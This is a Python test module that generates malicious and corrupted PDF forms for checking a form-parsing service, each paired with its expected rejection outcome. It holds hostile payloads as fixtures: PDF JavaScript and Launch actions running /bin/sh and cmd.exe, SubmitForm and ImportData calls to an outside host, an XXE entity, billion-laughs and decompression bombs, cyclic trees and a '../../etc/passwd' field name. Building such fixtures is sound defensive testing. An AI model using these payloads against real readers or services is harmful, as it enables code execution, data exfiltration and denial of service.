"""Hundreds of forms as PDF that were made to hurt, or got broken on their way, each with what must come of it."""

import random
import zlib
from collections.abc import Iterator, Mapping, Sequence
from io import BytesIO

from pypdf import PdfReader, PdfWriter

from tests.core.recruitment.hostile_texts import FAR, READ, Hostile, naughty

ABOUT = "0123456789abcdef0123456789abcdef adept 01234567 nb"
NO_PDF, NO_FORM, EMPTY, LOCKED, LARGE = "PdfUnreadable", "PdfWithoutForm", "PdfEmpty", "PdfEncrypted", "SheetTooLarge"
_FIRST_FIELD = 5


def hostile_pdfs(port: int) -> Iterator[Hostile]:
    """All of them."""
    for making in (_texts, _actions, _wrong_kinds, _many, _others_forms, _bombs, _trees, _broken, _locked):
        for name, content, ends in making(port):
            yield Hostile(f"{name}.pdf", content, ends)


Made = Iterator[tuple[str, bytes, tuple[str, ...]]]


def string(text: str) -> bytes:
    """A text as PDF writes any letters."""
    return b"<feff" + text.encode("utf-16-be", "surrogatepass").hex().encode() + b">"


def field(name: str, value: bytes, more: bytes = b"", kind: bytes = b"/Tx") -> bytes:
    """A field with its value, as it stands in the file."""
    return b"<< /FT %s /T %s /V %s /Subtype /Widget /Rect [0 0 9 9] %s >>" % (kind, string(name), value, more)


def pdf(
    fields: Sequence[bytes] = (), *, about: str | None = ABOUT, more: Sequence[bytes] = (), **parts: bytes
) -> bytes:
    """A file with a form and `more` objects. `parts`: what stands beside in `catalog`, `page`, `form`, `trailer`."""
    told = [] if about is None else [field("mentordesk", string(about))]
    all_fields = [*told, *fields]
    places = b" ".join(b"%d 0 R" % (_FIRST_FIELD + place) for place in range(len(all_fields)))
    said = {name: parts.get(name, b"") for name in ("catalog", "page", "form", "trailer")}
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm 4 0 R %s >>" % said["catalog"],
        parts.get("pages", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>"),
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] %s >>" % said["page"],
        parts.get("acroform", b"<< /Fields [%s] %s >>" % (places, said["form"])),
        *all_fields,
        *more,
    ]
    return _file(objects, said["trailer"])


def _file(objects: Sequence[bytes], trailer: bytes = b"") -> bytes:
    raw, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(raw))
        raw += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(raw)
    raw += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    raw += b"".join(b"%010d 00000 n \n" % place for place in places)
    raw += b"trailer << /Size %d /Root 1 0 R %s >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, trailer, start)
    return bytes(raw)


def stream(content: bytes, more: bytes = b"") -> bytes:
    """A stream object."""
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), more, content)


NAME = field("name", string("Amina Hussein"))
WHOLE = (NAME, field("email", string("amina@example.org")), field("motivation", string("Vil lære")))


def _texts(port: int) -> Made:
    """Each naughty text as every answer, and as what a question is called."""
    for name, text in naughty(port).items():
        yield f"tekst-{name}", pdf([*WHOLE, field("town", string(text)), field("name", string(text))]), (READ,)
    for name, text in list(naughty(port).items())[:12]:
        label = b"/TU " + string(text)
        yield f"spørsmål-{name}", pdf([NAME, field("ab" * 16, string("Ja"), label)]), (READ,)


def _actions(port: int) -> Made:
    """Files that want something to be run, opened, sent or fetched."""
    far = FAR.format(port=port).encode()
    actions = {
        "skript": b"<< /S /JavaScript /JS (app.launchURL('%s', true);) >>" % far,
        "start": b"<< /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/C calc) >> >>",
        "nett": b"<< /S /URI /URI (%s) >>" % far,
        "send": b"<< /S /SubmitForm /F << /FS /URL /F (%s) >> /Flags 4 >>" % far,
        "hent": b"<< /S /ImportData /F (%s) >>" % far,
        "annen-fil": b"<< /S /GoToR /F (\\\\\\\\127.0.0.1\\\\deling\\\\a.pdf) /D [0 /Fit] >>",
        "vedlegg": b"<< /S /GoToE /T << /R /C /N (a) >> >>",
        "lyd": b"<< /S /Sound /Sound 99 0 R /Volume 1 >>",
        "film": b"<< /S /Rendition /OP 0 /R << /S /MR /C << /S /MCD /D << /FS /URL /F (%s) >> >> >> >>" % far,
        "skjul": b"<< /S /Hide /T (name) /H true >>",
        "tilbake": b"<< /S /ResetForm /Next << /S /Named /N /Print >> >>",
    }
    for name, action in actions.items():
        yield f"åpnes-{name}", pdf(WHOLE, catalog=b"/OpenAction %s /AA << /WC %s >>" % (action, action)), (READ,)
        triggers = b"/A %s /AA << /K %s /F %s /V %s /C %s >>" % ((action,) * 5)
        yield f"felt-{name}", pdf([*WHOLE, field("town", string("Oslo"), triggers)]), (READ,)
    outside = b"<< /FS /URL /F (%s) >>" % far
    for name, place in {"innhold": "page", "svar": "field"}.items():
        content = stream(b"", b"/F %s" % outside)
        number = b"%d 0 R" % (_FIRST_FIELD + 1 + len(WHOLE) + (place == "field"))
        fields = [*WHOLE, field("town", number)] if place == "field" else WHOLE
        page = b"/Contents %s" % number if place == "page" else b""
        yield f"utenfra-{name}", pdf(fields, more=[content], page=page), (READ,)
    xmp = b"<!DOCTYPE a [<!ENTITY x SYSTEM '%s'>]><x:xmpmeta>&x;</x:xmpmeta>" % far
    for name, content in {"xfa": xmp, "xfa-som-ikke-er": b"\xff" * 5_000}.items():
        number = b"%d 0 R" % (_FIRST_FIELD + 1 + len(WHOLE))
        yield name, pdf(WHOLE, form=b"/XFA [(preamble) %s]" % number, more=[stream(content)]), (READ,)


def _wrong_kinds(_port: int) -> Made:
    """Values of kinds that nobody expects there."""
    odd = {
        "tall": b"42",
        "desimaltall": b"-.0e5",
        "ja": b"true",
        "ingenting": b"null",
        "navn": b"/Off",
        "tabell": b"<< /A << /B [1 2 << >>] >> >>",
        "rekke": b"[1 (a) [ [ [ null ] ] ] /B]",
        "borte": b"4711 0 R",
        "seg-selv": b"%d 0 R" % (_FIRST_FIELD + 1 + len(WHOLE)),
        "halv-streng": b"<feff00>",
        "åtte-tall": b"(\\377\\376\\000\\777\\8)",
    }
    for name, value in odd.items():
        yield f"svar-{name}", pdf([*WHOLE, field("town", value)]), (READ, NO_PDF)
        yield f"spørsmålet-{name}", pdf([*WHOLE, field("ab" * 16, string("Ja"), b"/TU %s" % value)]), (READ, NO_PDF)
        yield f"valg-{name}", pdf([*WHOLE, field("gender", b"/0", b"/Opt %s" % value, b"/Btn")]), (READ, NO_PDF)
        yield f"barn-{name}", pdf([*WHOLE, field("town", string("Oslo"), b"/Kids %s" % value)]), (READ, NO_PDF)
        yield f"felt-navn-{name}", pdf([*WHOLE, b"<< /FT /Tx /T %s /V (x) >>" % value]), (READ, NO_PDF)
        yield f"feltene-{name}", pdf(WHOLE, acroform=b"<< /Fields %s >>" % value), (NO_FORM, NO_PDF)
        yield f"skjemaet-{name}", pdf(WHOLE, acroform=value), (NO_FORM, NO_PDF)
    yield (
        "uten-skjema",
        _file([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [] /Count 0 >>"]),
        (NO_FORM,),
    )
    yield "ukjent-slag-felt", pdf([*WHOLE, field("town", b"(x)", kind=b"/Tx /FT /Sig")]), (READ,)


def _many(_port: int) -> Made:
    def numbered(count: int) -> list[bytes]:
        return [field(f"{number:032x}", string("Ja")) for number in range(count)]

    yield "mange-felt", pdf([NAME, *numbered(2_000)]), (LARGE,)
    yield "fire-hundre-felt", pdf([NAME, *numbered(400)]), (READ,)
    yield "samme-navn", pdf([*WHOLE, *[field("town", string(str(n))) for n in range(900)]]), (READ,)
    yield (
        "mange-ruter",
        pdf([*WHOLE, *[field(f"topics.{n}", b"/0", b"/Opt [(CV)]", b"/Btn") for n in range(900)]]),
        (READ,),
    )
    for name, called in {
        "tomt-navn": "",
        "langt-navn": "x" * 60_000,
        "punktum": ".....",
        "sti": "../../etc/passwd",
        "stort-tall": f"town.{'9' * 5_000}",
        "null": "to\0wn",
        "dunder": "__class__.__init__",
    }.items():
        yield f"felt-med-{name}", pdf([*WHOLE, field(called, string("x"))]), (READ,)
    yield "langt-svar", pdf([*WHOLE, field("goal", string("å" * 100_000))]), (READ,)
    yield "mange-valg", pdf([*WHOLE, field("gender", b"/7", b"/Opt [%s]" % (b"(x) " * 50_000), b"/Btn")]), (READ,)


def _others_forms(_port: int) -> Made:
    """Forms of another programme or version, and what only looks like one."""
    programme, role, version, language = ABOUT.split()
    for name, about, ends in (
        ("annet-program", f"{'f' * 32} {role} {version} {language}", (READ,)),
        ("annen-utgave", f"{programme} {role} ffffffff {language}", (READ,)),
        ("ukjent-rolle", f"{programme} sjef {version} {language}", (READ,)),
        ("ukjent-språk", f"{programme} {role} {version} klingon", (READ,)),
        ("mye-om-seg", " ".join([ABOUT] * 500), (READ,)),
        ("lite-om-seg", programme, (NO_FORM,)),
        ("ikke-noe-om-seg", "", (NO_FORM,)),
        ("baklengs-om-seg", "\u202e" + ABOUT, (READ,)),
        ("tull-om-seg", "a b c d", (READ,)),
    ):
        yield name, pdf(WHOLE, about=about), ends
    yield "fremmed-skjema", pdf(WHOLE, about=None), (NO_FORM,)
    yield "ikke-fylt-ut", pdf([field(name, b"()") for name in ("name", "email")]), (EMPTY,)
    yield "bare-mellomrom", pdf([field(name, string(" \u3000\t")) for name in ("name", "email")]), (EMPTY,)
    yield "to-om-seg", pdf([*WHOLE, field("mentordesk", string("x"))]), (READ, NO_FORM)


def _bombs(_port: int) -> Made:
    """A little that unpacks to very much."""
    number = b"%d 0 R" % (_FIRST_FIELD + 2 + len(WHOLE))
    zeros = zlib.compress(bytes(100_000_000), 9)
    for name, content, filters in (
        ("pakket", zeros, b"/FlateDecode"),
        ("pakket-i-pakket", zlib.compress(zeros, 9), b"[/FlateDecode /FlateDecode]"),
        ("mange-lag", zlib.compress(b"x"), b"[%s]" % (b"/FlateDecode " * 5_000)),
        ("løpelengde", b"\x81\x00" * 2_000_000, b"/RunLengthDecode"),
        ("lzw", b"\x80\x0b\x60\x50\x22\x0c\x0c\x85\x01" * 200_000, b"/LZWDecode"),
        ("ukjent-pakking", b"x", b"/Tull"),
        ("spådd", zlib.compress(bytes(9_000), 9), b"/FlateDecode /DecodeParms << /Predictor 15 /Columns 999999999 >>"),
    ):
        made = pdf([*WHOLE, field("town", number)], more=[stream(content, b"/Filter %s" % filters)])
        yield f"bombe-{name}", made, (READ, NO_PDF, LARGE)
    packed = stream(zeros, b"/Type /ObjStm /N 100 /First 800 /Filter /FlateDecode")
    yield "bombe-i-objekter", _in_stream(packed), (NO_PDF, NO_FORM)
    laughs = b"".join(b'<!ENTITY l%d "%s">' % (n, b"&l%d;" % (n - 1) * 10) for n in range(1, 10))
    xfa = b"<!DOCTYPE a [<!ENTITY l0 'ha'>" + laughs + b"]><a>&l9;</a>"
    number = b"%d 0 R" % (_FIRST_FIELD + 1 + len(WHOLE))
    for name, content, filters in (("latter", xfa, b""), ("pakket", zeros, b"/Filter /FlateDecode")):
        yield f"xfa-{name}", pdf(WHOLE, form=b"/XFA %s" % number, more=[stream(content, filters)]), (READ,)


def _in_stream(content: bytes) -> bytes:
    """A file whose objects lie packed in a stream, and whose list of them lies in another."""
    raw = b"%PDF-1.7\n1 0 obj\n" + content + b"\nendobj\n"
    entries = b"".join(bytes((2, 0, 1, number)) for number in range(100))
    more = b"/Type /XRef /Size 100 /W [1 2 1] /Root 5 0 R /Filter /FlateDecode"
    listing = stream(zlib.compress(entries), more)
    return raw + b"2 0 obj\n" + listing + b"\nendobj\nstartxref\n%d\n%%%%EOF" % len(raw)


def _trees(_port: int) -> Made:
    """Trees that are too deep, too wide, or have no end."""
    last = _FIRST_FIELD + 1 + len(WHOLE)
    own = b"<< /T (a) /Kids [%d 0 R] >>" % last
    yield "barn-av-seg-selv", pdf([*WHOLE, own]), (READ, NO_PDF)
    two = [b"<< /T (a) /Kids [%d 0 R] >>" % (last + 1), b"<< /T (b) /Kids [%d 0 R] /Parent %d 0 R >>" % (last, last)]
    yield "barn-i-ring", pdf([*WHOLE, *two]), (READ, NO_PDF)
    deep = [b"<< /T (a) /Kids [%d 0 R] >>" % (last + n + 1) for n in range(3_000)]
    yield "dype-barn", pdf([*WHOLE, deep[0]], more=[*deep[1:], field("b", b"(x)")]), (READ, NO_PDF)
    for name, opened, closed in (("rekker", b"[", b"]"), ("tabeller", b"<< /A ", b" >>")):
        made = pdf([*WHOLE, field("town", opened * 60_000 + closed * 60_000)])
        yield f"dype-{name}", made, (READ, NO_PDF)
    yield "sider-uten-tall", pdf(WHOLE, pages=b"<< /Type /Pages /Kids [3 0 R] /Count 2000000000 >>"), (READ,)
    yield "sider-av-seg-selv", pdf(WHOLE, pages=b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 9 >>"), (READ, NO_PDF)
    yield "mange-sider", pdf(WHOLE, pages=b"<< /Type /Pages /Kids [%s] /Count 90000 >>" % (b"3 0 R " * 90_000)), (READ,)
    yield "minus-sider", pdf(WHOLE, pages=b"<< /Type /Pages /Kids [3 0 R] /Count -7 >>"), (READ,)


def _broken(_port: int) -> Made:
    """Cut, turned and patched as a bad disk, a mail program or a fool does it."""
    whole, chance = pdf(WHOLE), random.Random(17)
    any_end = (READ, NO_PDF, NO_FORM, EMPTY, "SheetKindUnknown")
    for share in (1, 5, 20, 40, 60, 80, 95, 99):
        yield f"kuttet-{share}", whole[: len(whole) * share // 100], any_end
    for number in range(10):
        turned = bytearray(whole)
        for _ in range(15):
            turned[chance.randrange(9, len(turned))] = chance.randrange(256)
        yield f"vendt-{number}", bytes(turned), any_end
    place = whole.index(b"startxref") + 10
    ends: Mapping[str, bytes] = {
        "feil-plass": whole[:place] + b"1\n%%EOF",
        "plass-utenfor": whole[:place] + b"99999999999999\n%%EOF",
        "uten-plass": whole[: place - 10],
        "før-seg-selv": pdf(WHOLE, trailer=b"/Prev %d" % whole.index(b"xref")),
        "minus-størrelse": pdf(WHOLE, trailer=b"/Size -1"),
        "uten-rot": whole.replace(b"/Root 1 0 R", b"/Toor 1 0 R"),
        "feil-rot": whole.replace(b"/Root 1 0 R", b"/Root 3 0 R"),
        "rot-borte": whole.replace(b"/Root 1 0 R", b"/Root 9999 0 R"),
        "mange-i-lista": whole.replace(b"xref\n0 ", b"xref\n0 99999999", 1),
        "støy-foran": b"Fra: Kari <kari@example.org>\r\n\r\n" + whole,
        "støy-bak": whole + chance.randbytes(9_000),
        "to-filer": whole + pdf([field("name", string("En annen"))]),
        "zip-bak": whole + b"PK\x03\x04" + bytes(500),
        "linjer-fra-windows": whole.replace(b"\n", b"\r\n"),
        "ny-utgave": whole.replace(b"%PDF-1.7", b"%PDF-9.9"),
        "bare-hodet": b"%PDF-1.7\n",
        "hodet-og-nuller": b"%PDF-1.7\n" + bytes(50_000),
        "hodet-og-støy": b"%PDF-1.7\n" + chance.randbytes(50_000),
        "lang-lengde": pdf(WHOLE, page=b"/Contents 9 0 R", more=[b"<< /Length 999999999999 >>\nstream\nx\nendstream"]),
        "lengde-i-ring": pdf(WHOLE, page=b"/Contents 9 0 R", more=[b"<< /Length 9 0 R >>\nstream\nx\nendstream"]),
    }
    for name, content in ends.items():
        yield name, content, any_end


def _locked(_port: int) -> Made:
    """With a password, and with ciphers that nobody knows."""
    for name, password, ends in (("passord", "hemmelig", (LOCKED,)), ("uten-passord", "", (READ,))):
        writer = PdfWriter(clone_from=PdfReader(BytesIO(pdf(WHOLE))))
        writer.encrypt(password, "eier", algorithm="RC4-128")
        raw = BytesIO()
        writer.write(raw)
        yield f"låst-med-{name}", raw.getvalue(), ends
    key = b"/O <%s> /U <%s> /OE <%s> /UE <%s> /Perms <%s> /P -4" % tuple(b"ab" * n for n in (48, 48, 32, 32, 16))
    filters = b"/CF << /StdCF << /CFM /AESV3 /Length 32 >> >> /StmF /StdCF /StrF /StdCF"
    for name, said in {
        "aes": b"/Filter /Standard /V 5 /R 6 /Length 256 %s %s" % (key, filters),
        "ukjent": b"/Filter /Tull /V 99 /R 99 %s" % key,
        "ingenting": b"",
    }.items():
        made = pdf(WHOLE, trailer=b"/Encrypt << %s >> /ID [<00> <00>]" % said)
        yield f"låst-med-{name}", made, (LOCKED, "PdfUnreadable")
